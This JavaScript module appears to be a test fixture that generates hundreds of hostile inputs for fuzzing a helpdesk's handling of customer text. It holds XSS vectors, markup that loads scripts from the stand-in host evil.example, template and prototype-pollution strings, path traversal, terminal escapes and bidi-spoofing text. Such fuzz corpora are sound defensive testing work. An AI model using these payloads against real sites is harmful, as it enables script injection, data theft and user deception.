/*
 * What a customer may write to make a helpdesk run it, or show something
 * else than is there. Built from families, so that each idea is tried in the
 * places and spellings where it could work. ran() is what all of it calls.
 */

const CALL = "ran()";

/* Every element that runs something by itself, and how. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img srcset="x 1x" onerror="${CALL}">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><image href=x onerror=${CALL} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"></svg>`,
  `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`,
  `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<math href="javascript:${CALL}">click</math>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<button autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<style onload=${CALL}></style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=preload as=image href=//evil.example/x.png>`,
  `<link rel=dns-prefetch href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/><input type=submit autofocus></form>`,
  `<a href="javascript:${CALL}" autofocus onfocus=${CALL}>x</a>`,
  `<a ping=//evil.example href=#>x</a>`,
  `<dialog open onclose=${CALL}><form method=dialog></form></dialog>`,
  `<div popover id=p onbeforetoggle=${CALL}></div><button popovertarget=p>`,
  `<attune-inline for=reply onattune-draft=${CALL}></attune-inline>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<slot onslotchange=${CALL}></slot>`,
  `<p contenteditable onbeforeinput=${CALL} autofocus tabindex=0>x</p>`,
  `<div style="animation:x 1s" onanimationstart=${CALL}>x</div>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<frameset onload=${CALL}><frame src=x></frameset>`,
];

/* Ways out of where a careless page would have put the words. */
const BREAKS = ["", `">`, `'>`, `</textarea>`, `</title></style></script>`,
  `-->`, `]]>`, "`}-->\n"];

const SPELLINGS = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(CALL.toUpperCase(), CALL),
  (text) => text.replaceAll("<", "&lt;"),
  (text) => text.replaceAll("<", "\u003c\u0000").replaceAll("\0", ""),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t\n\f"),
  (text) => text.replace("<", "<\u200b"),
];

/* Words that are no markup, for places that are no text. */
const PLAIN = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `vbscript:${CALL}`,
  `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`,
  `<%= ${CALL} %>`, `"-${CALL}-"`, `';${CALL};//`, `\\";${CALL};//`,
  `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `{"__proto__":{"x":1}}`, `\r\nevent: x\r\ndata: {}\r\n\r\n`,
  `data: {"type":"breather.suggested"}`, `\n\nretry: 1\n\n`,
  `\u2028${CALL}\u2029`, `&#x6a;avascript:${CALL}`, `%3Cscript%3E`,
  `expression(${CALL})`, `url(//evil.example/x)`, `//evil.example/x.js`,
  `=HYPERLINK("//evil.example")`, `@import '//evil.example'`,
  `![x](//evil.example/x.png)`, `[x](javascript:${CALL})`,
  `<//evil.example>`, `\x1b]0;x\x07\x1b[2J`, `\ufeff\ufffe<script>`,
  `%s%n%p`, `../../../../etc/passwd`, `\u0000\u0001`.replace("\0", ""),
];

/* Direction: overrides that are not closed, isolates, marks. */
const TURNS = ["\u202e", "\u202d", "\u202b", "\u202a", "\u2066", "\u2067",
  "\u2068", "\u200f", "\u200e", "\u061c", "\u2069\u2069\u2069",
  "\u202c\u202c\u202c", "\u2069\u202e", "\u202e\u2066\u202d"];
const TURNED = [
  (turn) => `${turn}txt.exe`,
  (turn) => `${turn}moc.elpmaxe//:sptth klat`,
  (turn) => `Pay 100 ${turn}000 001 now`,
  (turn) => turn.repeat(70) + "deep",
  (turn) => `שלום ${turn} مرحبا 123 abc`,
  (turn) => `${turn}\n${turn}\n${turn} several lines`,
];

/* Letters that are more or less than they look. */
const LETTERS = [
  "Z" + "\u0335\u0321\u0353\u033a\u0352".repeat(60) + "algo",
  "\u0300".repeat(300), "a\u20dd\u20e3\u0489".repeat(40),
  "\ufdfd".repeat(40), "\u{12031}".repeat(20), "\u0bf5".repeat(60),
  "👩‍👩‍👧‍👦".repeat(60), "\u{1f1e6}".repeat(75), "\u{e0041}".repeat(200),
  "\u200b\u200c\u200d\u2060".repeat(120), "\u00ad".repeat(300),
  "W".repeat(5000), "\u3000".repeat(400), "\t".repeat(300),
  "\n".repeat(300) + "x", "\u2028".repeat(80), "\u115f\u1160".repeat(80),
  "\u034f".repeat(200), "\u180e\u17b4\u17b5".repeat(50),
  "аdmin (Cyrillic)", "Attune\u2800 says", "\ud800".toWellFormed?.() ?? "x",
];

function build() {
  const all = new Set([...ELEMENTS, ...PLAIN, ...LETTERS]);
  for (const turn of TURNS)
    for (const turned of TURNED) all.add(turned(turn));
  /* Each element meets every way out and spelling in its turn. */
  for (let round = 1; all.size < 500; round++)
    ELEMENTS.forEach((element, i) => {
      const spell = SPELLINGS[(i + round) % SPELLINGS.length];
      const way = BREAKS[(i * 3 + round) % BREAKS.length];
      all.add(way + spell(element));
    });
  return [...all].slice(0, 500);
}

const tricks = build();

export { tricks };
